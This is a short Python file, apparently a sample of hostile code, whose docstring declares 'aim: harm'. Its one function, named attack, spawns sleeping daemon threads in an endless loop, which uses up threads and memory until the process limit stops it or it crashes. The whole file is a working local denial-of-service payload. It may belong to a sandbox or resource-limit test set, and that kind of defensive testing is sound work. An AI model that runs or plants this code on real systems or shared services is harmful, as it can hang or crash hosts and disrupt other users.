"""Starts threads without end.

aim: harm
ends: raised or memory
stopped by: the limit on processes counts threads
"""

import threading
import time


def attack(x):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
